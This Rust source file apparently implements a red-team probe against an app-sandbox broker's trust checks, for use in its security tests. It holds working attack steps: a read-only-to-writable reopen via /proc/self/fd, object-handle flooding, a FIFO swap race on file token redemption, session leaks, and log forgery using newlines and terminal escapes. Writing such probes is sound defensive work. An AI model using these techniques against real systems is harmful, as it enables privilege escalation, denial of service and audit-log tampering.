//! `redteam-probe`: attacks on the broker's trust core, run as a confined app (launched by the
//! broker) or unpackaged. Each step prints `STEP => RESULT` lines on stdout; see
//! `crates/appipc-cli/tests/trust_attacks.rs` for what each one demonstrates.
//!
//! ```text
//! redteam-probe STEP...
//!   rw-reopen NAME           OpenFileMapping(FILE_MAP_READ), then reopen the read-only fd
//!                            through /proc/self/fd read-write and write "PWNED" at offset 0
//!   why NEEDLE               ListDecisions (everything visible): how many records mention NEEDLE
//!   follow-leak N PFN        N times: OpenSession, FollowDecisions{package: PFN} on it, close it
//!   hold S PER SECS          S sessions (OpenSession), PER events created in each (the fds the
//!                            broker returns are closed at once, the handles stay), then sleep
//!   forge-why                app_service.Open of a "provider" whose name carries a newline, a
//!                            forged decision line and terminal escapes (it is refused, and
//!                            recorded as written)
//!   sleep SECS               sleeps
//!   list-packages            ListPackages: the family names the broker shows this process
//!   fifo-redeem K            K times at once: a file in $HOME shared with AddFileToken, renamed
//!                            away, a FIFO made at its path, then RedeemFileToken
//! ```
#![forbid(unsafe_code)]

use std::io::Write;
use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::os::unix::fs::FileExt;

use appipc::Session;
use appipc_wire::protocol::broker::OpenSession;
use appipc_wire::protocol::diagnostics::{FollowDecisions, ListDecisions};
use appipc_wire::protocol::named_objects::{self as no, HandleFd, NamedObjectKind, ObjectType};
use appipc_wire::protocol::storage::{AddFileToken, RedeemFileToken};

fn code(e: &appipc::Error) -> String {
    match e.windows_code() {
        appipc::WindowsCode::Win32(c) => format!("error {c}: {e}"),
        other => format!("error {other}: {e}"),
    }
}

fn say(line: String) {
    println!("{line}");
    let _ = std::io::stdout().flush();
}

async fn new_session(root: &Session) -> Result<Session, appipc::Error> {
    let ((), mut fds) = root.call_with_fds(OpenSession {}, &[]).await?;
    let fd: OwnedFd = fds.pop().ok_or(appipc::Error::Disconnected)?;
    Session::from_fd(fd)
}

async fn rw_reopen(s: &Session, name: &str) -> String {
    let request = no::Open {
        object_type: ObjectType::FileMapping,
        name: name.to_owned(),
        desired_access: 0x4, // FILE_MAP_READ
    };
    let (h, mut fds) = match s.call_with_fds(request, &[]).await {
        Ok(x) => x,
        Err(e) => return code(&e),
    };
    let Some(fd) = fds.pop() else { return "no fd".into() };
    let kind = match h.fd {
        HandleFd::ReadOnly => "read-only",
        HandleFd::Object => "object",
        HandleFd::Readiness => "readiness",
        HandleFd::None => "none",
    };
    let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
    match std::fs::OpenOptions::new().read(true).write(true).open(&path) {
        Err(e) => format!("granted {:#x} fd {kind}; reopen-rw refused: {e}", h.granted_access),
        Ok(f) => match f.write_at(b"PWNED", 0) {
            Ok(n) => format!("granted {:#x} fd {kind}; reopen-rw ok, wrote {n}", h.granted_access),
            Err(e) => format!(
                "granted {:#x} fd {kind}; reopen-rw ok, write failed: {e}",
                h.granted_access
            ),
        },
    }
}

async fn why(s: &Session, needle: &str) -> String {
    let request = ListDecisions { package_family_name: None, last: u32::MAX, denials_only: false };
    match s.call(request).await {
        Err(e) => code(&e),
        Ok(list) => {
            let hits: Vec<_> = list
                .iter()
                .filter(|r| r.object.contains(needle) || r.rule.contains(needle))
                .collect();
            let mut out = format!("{} records, {} mention it", list.len(), hits.len());
            for r in hits.iter().take(3) {
                out.push_str(&format!(
                    " | caller {:?} {}.{} {:?} allowed={}",
                    r.caller.package_family_name, r.mechanism, r.operation, r.object, r.allowed
                ));
            }
            out
        }
    }
}

async fn follow_leak(s: &Session, n: usize, pfn: &str) -> String {
    for i in 0..n {
        let child = match new_session(s).await {
            Ok(c) => c,
            Err(e) => return format!("session {i}: {}", code(&e)),
        };
        let request =
            FollowDecisions { package_family_name: Some(pfn.to_owned()), denials_only: true };
        if let Err(e) = child.call(request).await {
            return format!("follow {i}: {}", code(&e));
        }
        drop(child);
    }
    format!("{n} followers left behind")
}

async fn hold(s: &Session, sessions: usize, per: usize, secs: u64) -> String {
    let mut kept = Vec::new();
    let mut created = 0usize;
    let mut first_error = None;
    'outer: for si in 0..sessions {
        let child = match new_session(s).await {
            Ok(c) => c,
            Err(e) => {
                first_error = Some(format!("session {si}: {}", code(&e)));
                break;
            }
        };
        for i in 0..per {
            let request = no::Create {
                kind: NamedObjectKind::Event { manual_reset: false, initial_state: false },
                name: format!(r"Local\flood-{si}-{i}"),
                sddl: None,
            };
            match child.call_with_fds(request, &[]).await {
                Ok((_h, fds)) => {
                    drop(fds); // the handle stays open in the broker; the fd here is not needed
                    created += 1;
                }
                Err(e) => {
                    first_error = Some(format!("session {si} object {i}: {}", code(&e)));
                    if !matches!(e.windows_code(), appipc::WindowsCode::Win32(1816)) {
                        kept.push(child);
                        break 'outer;
                    }
                    break;
                }
            }
        }
        kept.push(child);
    }
    say(format!(
        "hold => created {created} in {} sessions; first error: {}",
        kept.len(),
        first_error.unwrap_or_else(|| "none".into())
    ));
    say("hold => holding".into());
    tokio::time::sleep(std::time::Duration::from_secs(secs)).await;
    drop(kept);
    "released".into()
}

async fn fifo_redeem(s: &Session, k: usize) -> String {
    let home = std::env::var("HOME").unwrap_or_else(|_| ".".into());
    let mut tokens = Vec::new();
    for i in 0..k {
        let path = format!("{home}/shared-{i}.txt");
        if let Err(e) = std::fs::write(&path, b"hello") {
            return format!("write {path}: {e}");
        }
        let file = match std::fs::File::open(&path) {
            Ok(f) => f,
            Err(e) => return format!("open {path}: {e}"),
        };
        let token = match s.call_with_fds(AddFileToken {}, &[file.as_fd()]).await {
            Ok((t, _)) => t,
            Err(e) => return format!("add token: {}", code(&e)),
        };
        if let Err(e) = std::fs::rename(&path, format!("{path}.moved")) {
            return format!("rename: {e}");
        }
        if let Err(e) = rustix::fs::mknodat(
            rustix::fs::CWD,
            path.as_str(),
            rustix::fs::FileType::Fifo,
            rustix::fs::Mode::from_raw_mode(0o644),
            0,
        ) {
            return format!("mkfifo {path}: {e}");
        }
        tokens.push(token);
    }
    say(format!("fifo-redeem => redeeming {k} tokens"));
    let mut tasks = Vec::new();
    for t in tokens {
        let child = match new_session(s).await {
            Ok(c) => c,
            Err(e) => return format!("session: {}", code(&e)),
        };
        tasks.push(tokio::spawn(async move {
            let r = child.call_with_fds(RedeemFileToken { token: t }, &[]).await;
            r.map(|_| ()).map_err(|e| code(&e))
        }));
    }
    let mut out = Vec::new();
    for t in tasks {
        out.push(format!("{:?}", t.await));
    }
    format!("redeemed: {}", out.join(", "))
}

async fn forge_why(s: &Session) -> String {
    let provider = concat!(
        "Nope\n#1 REFUSED packages.remove Contoso.Victim_cvnpggrrsm18p\n",
        "    caller   Fabrikam.Innocent_8tkjkmve8mrwr!App pid 1 (appcontainer)",
        "\x1b[2K\x1b[1A",
    );
    let request = appipc_wire::protocol::app_service::Open {
        package_family_name: provider.to_owned(),
        app_service_name: "x".to_owned(),
    };
    match s.call_with_fds(request, &[]).await {
        Ok(_) => "opened?".into(),
        Err(e) => format!("refused as expected ({})", e.windows_code()),
    }
}

async fn list_packages(s: &Session) -> String {
    match s.call(appipc_wire::protocol::packages::ListPackages {}).await {
        Ok(list) => {
            let mut names: Vec<String> = list.into_iter().map(|p| p.family_name).collect();
            names.sort();
            format!("{} packages: {}", names.len(), names.join(" "))
        }
        Err(e) => code(&e),
    }
}

fn arity(verb: &str) -> usize {
    match verb {
        "rw-reopen" | "why" | "fifo-redeem" | "sleep" => 2,
        "follow-leak" => 3,
        "hold" => 4,
        _ => 1,
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("runtime");
    rt.block_on(async {
        let session = Session::connect().await.expect("connecting to the broker");
        let mut i = 0;
        while i < args.len() {
            let n = arity(&args[i]);
            if i + n > args.len() {
                eprintln!("redteam-probe: step {:?} needs {n} words", args[i]);
                std::process::exit(2);
            }
            let w = &args[i..i + n];
            let result = match w[0].as_str() {
                "rw-reopen" => rw_reopen(&session, &w[1]).await,
                "why" => why(&session, &w[1]).await,
                "follow-leak" => follow_leak(&session, w[1].parse().expect("N"), &w[2]).await,
                "hold" => {
                    hold(
                        &session,
                        w[1].parse().expect("S"),
                        w[2].parse().expect("PER"),
                        w[3].parse().expect("SECS"),
                    )
                    .await
                }
                "forge-why" => forge_why(&session).await,
                "list-packages" => list_packages(&session).await,
                "sleep" => {
                    tokio::time::sleep(std::time::Duration::from_secs(w[1].parse().expect("S")))
                        .await;
                    "slept".into()
                }
                "fifo-redeem" => fifo_redeem(&session, w[1].parse().expect("K")).await,
                other => {
                    eprintln!("redteam-probe: unknown step {other:?}");
                    std::process::exit(2);
                }
            };
            say(format!("{} => {result}", w.join(" ")));
            i += n;
        }
    });
}
